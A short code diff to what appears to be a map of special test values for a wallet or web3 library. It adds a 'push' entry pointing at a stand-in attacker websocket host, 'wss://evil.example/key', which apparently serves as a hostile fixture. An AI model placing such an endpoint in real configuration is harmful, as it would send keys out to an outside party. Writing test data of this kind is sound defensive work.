@@ -111,6 +111,9 @@ export const special: Record<string, string> = {
   tagLength: '32',
   length: '8',
   redirect: '"follow"',
+  push: '"wss://evil.example/key"',
+  poll: '"filter"',
+  live: 'true',
   // The second account of the page, which is offered and not chosen.
   accounts: '["0x70997970c51812dc3a010c7d01b50e0d17dc79c8"]',
 };
